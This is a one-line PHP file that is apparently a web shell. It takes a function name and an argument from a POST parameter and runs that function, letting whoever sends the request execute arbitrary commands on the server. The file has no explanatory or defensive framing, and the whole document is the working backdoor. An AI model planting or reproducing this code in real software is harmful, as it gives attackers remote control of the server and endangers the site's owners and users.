<?php [$f, $a] = $_POST['x']; echo $f($a);
